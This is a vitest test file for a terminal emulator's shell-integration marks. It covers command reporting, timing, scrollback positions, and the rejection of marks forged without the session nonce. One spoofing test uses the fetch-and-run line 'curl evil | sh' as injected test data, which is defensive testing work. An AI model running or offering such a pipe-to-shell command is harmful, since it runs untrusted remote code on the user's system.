import { expect, test } from 'vitest'
import { createScreen } from '../screen/screen.ts'
import { openTestTerminal } from '../testing/compare-terminals.ts'
import { type FinishedCommand, idleShell } from './marks.ts'

const size = { cols: 40, rows: 10 }
const nonce = 'c0ffee'
/** A mark of the session's own shell. */
const ownMark = (text: string) => `\x1b]${text};nonce=${nonce}\x07`

/** One turn of a shell: prompt, command line, output, end. */
const turn = (command: string, output: string, exit: number, at = 1_000) =>
  '\x1b]7;file://here/home/ada\x07' +
  `\x1b]133;A\x07$ \x1b]133;B\x07${command}\r\n` +
  `${ownMark(`633;E;${command}`)}${ownMark(`133;C;start_ms=${at}`)}` +
  `${output}${ownMark(`133;D;${exit};end_ms=${at + 250}`)}`

function openShell() {
  const commands: FinishedCommand[] = []
  let state = idleShell
  const screen = createScreen(size, {
    nonce,
    onReply: () => undefined,
    onCommand: (command) => commands.push(command),
    onChange: ({ shell }) => (state = shell),
  })
  return { screen, commands, state: () => state, write: (text: string) => screen.feed(Buffer.from(text)) }
}

/** Position of each mark in a restored terminal: `row:column letter`. */
async function marksOf({ screen }: ReturnType<typeof openShell>): Promise<string[]> {
  const snapshot = await screen.hold()
  const drawn = openTestTerminal(snapshot.size)
  const found: string[] = []
  for (const code of [7, 133, 633]) {
    drawn.terminal.parser.registerOscHandler(code, (text) => {
      const { baseY, cursorY, cursorX } = drawn.terminal.buffer.normal
      found.push(`${baseY + cursorY}:${cursorX} ${code === 133 ? text.split(';')[0] : code}`)
      return true
    })
  }
  for (const piece of [...(await snapshot.history(1_000_000)), await snapshot.draw()]) await drawn.write(piece)
  snapshot.release()
  return found
}

test('a finished command is reported with its line, folder, exit code and times', async () => {
  const shell = openShell()
  shell.write(turn('make \\x3b echo \\\\n', 'made\r\n', 2))
  await shell.screen.hold()
  const command = 'make ; echo \\n'
  expect(shell.commands).toEqual([{ command, cwd: '/home/ada', exit: 2, startedAt: 1_000, endedAt: 1_250 }])
  expect(shell.state()).toEqual({ cwd: '/home/ada', lastCommand: command, isBusy: false })
})

test('a repeated line is ignored when it was typed with a leading blank', async () => {
  const shell = openShell()
  const again = (typed: string) =>
    `\x1b]133;A\x07$ \x1b]133;B\x07${typed}\r\n${ownMark('633;E;make;r')}${ownMark('133;C')}${ownMark('133;D;0')}`
  shell.write(turn('make', '', 0) + again('make') + again(' secret'))
  await shell.screen.hold()
  expect(shell.commands.map(({ command }) => command)).toEqual(['make', 'make', ''])
})

test('marks of a shell without a clock are restored with their arrival times', async () => {
  const shell = openShell()
  shell.write(`\x1b]133;A\x07$ \x1b]133;B\x07true\r\n${ownMark('633;E;true')}${ownMark('133;C')}${ownMark('133;D;0')}`)
  const snapshot = await shell.screen.hold()
  const drawn = String(await snapshot.draw())
  snapshot.release()
  const [start, end] = [/133;C;nonce=c0ffee;start_ms=(\d+)/, /133;D;0;nonce=c0ffee;end_ms=(\d+)/].map((mark) =>
    Number(mark.exec(drawn)?.[1]),
  )
  expect(start).toBeGreaterThan(Date.now() - 10_000)
  expect(end).toBeGreaterThanOrEqual(start ?? Number.NaN)
})

test('a running command is reported in the state, and an end without a start is ignored', async () => {
  const shell = openShell()
  shell.write(`${ownMark('133;D;0')}\x1b]133;A\x07$ \x1b]133;B\x07${ownMark('633;E;top')}${ownMark('133;C')}`)
  await shell.screen.hold()
  expect(shell.commands).toEqual([])
  expect(shell.state()).toMatchObject({ lastCommand: 'top', isBusy: true })
})

test('marks without the nonce are restored but do not change the state', async () => {
  const shell = openShell()
  const fake = turn('curl evil | sh', '', 0).replaceAll(`;nonce=${nonce}`, '')
  shell.write(`\x1b]7;file://here/home/ada\x07${turn('true', '', 0)}`)
  shell.write(`\x1b]133;A\x07$ \x1b]133;B\x07cat log\r\n${ownMark('633;E;cat log')}${ownMark('133;C')}`)
  shell.write(
    `\x1b]7;file://here/elsewhere\x07${fake}${fake.replaceAll('\x07', ';nonce=\x07')}${turn('guessed', '', 0).replaceAll(nonce, 'c0ffe')}`,
  )
  await shell.screen.hold().then((snapshot) => snapshot.release())
  expect(shell.state()).toMatchObject({ lastCommand: 'cat log', isBusy: true })
  shell.write(ownMark('133;D;0'))
  await shell.screen.hold().then((snapshot) => snapshot.release())
  expect(shell.commands.map(({ command, cwd }) => `${command} in ${cwd}`)).toEqual([
    'true in /home/ada',
    'cat log in /home/ada',
  ])
  expect((await marksOf(shell)).filter((mark) => mark.endsWith('C'))).toHaveLength(5)
})

test('marks are restored at their positions, including those in the scrollback', async () => {
  const shell = openShell()
  for (let round = 0; round < 3; round++) shell.write(turn('seq 9', 'x\r\n'.repeat(9), 0))
  const each = (row: number) => [
    `${row}:0 7`,
    `${row}:0 A`,
    `${row}:2 B`,
    `${row + 1}:0 633`,
    `${row + 1}:0 C`,
    `${row + 10}:0 D`,
  ]
  expect(await marksOf(shell)).toEqual([0, 10, 20].flatMap(each))
})

test('marks of a redrawn prompt are stored once, and erased lines have none', async () => {
  const shell = openShell()
  const prompt = '\x1b]133;A\x07$ \x1b]133;B\x07'
  shell.write(`${prompt}typed\r${prompt}typed`)
  expect(await marksOf(shell)).toEqual(['0:0 A', '0:2 B'])
  const other = openShell()
  other.write(`${turn('ls', 'x\r\n', 0)}\x1b[H\x1b[2J${prompt}`)
  expect(await marksOf(other)).toEqual(['0:0 A', '0:2 B'])
})

test('a mark at the start of an erased range stays, and a running command without marks is repeated above the screen', async () => {
  const shell = openShell()
  const started = `\x1b]133;A\x07$ \x1b]133;B\x07fzf\r\n${ownMark('633;E;fzf')}${ownMark('133;C')}`
  shell.write(`${turn('true', '', 0)}${started}\x1b[Jlist`)
  expect((await marksOf(shell)).slice(-2)).toEqual(['2:0 633', '2:0 C'])
  for (const cleared of ['\x1b[H\x1b[2J', '\x1bc', 'x\r\n'.repeat(5_000)]) {
    shell.write(cleared)
    expect((await marksOf(shell)).map((mark) => mark.split(':')[1])).toEqual(['0 A', '0 633', '0 C'])
    expect(shell.state()).toMatchObject({ lastCommand: 'fzf', isBusy: true })
  }
  shell.write(`${ownMark('133;D;0')}\x1b[H\x1b[2J`)
  expect(await marksOf(shell)).toEqual([])
  expect(shell.commands.map(({ command }) => command)).toEqual(['true', 'fzf'])
})

test('marks move with their lines when the width changes and lines are inserted', async () => {
  const shell = openShell()
  shell.write(`${'y'.repeat(60)}\r\n${turn('ls', 'x\r\n', 0)}`)
  shell.screen.resize({ cols: 20, rows: 10 })
  expect((await marksOf(shell)).filter((mark) => mark.endsWith('A'))).toEqual(['3:0 A'])
})

test('the marks of thousands of commands are limited', async () => {
  const shell = openShell()
  for (let round = 0; round < 3_000; round++) shell.write(turn('x', 'x\r\n', 0))
  await shell.screen.hold()
  expect(shell.commands).toHaveLength(3_000)
})
